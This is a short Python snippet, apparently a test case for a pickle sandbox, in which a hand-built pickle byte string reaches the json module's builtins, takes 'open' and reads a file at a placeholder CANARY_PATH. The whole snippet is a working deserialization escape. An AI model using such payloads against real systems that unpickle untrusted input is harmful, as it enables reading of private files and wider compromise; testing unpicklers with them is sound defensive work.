# what: unpickles the builtins of a module
import pickle

pickle.loads(b"cjson\n__builtins__\n.")["open"](CANARY_PATH).read()
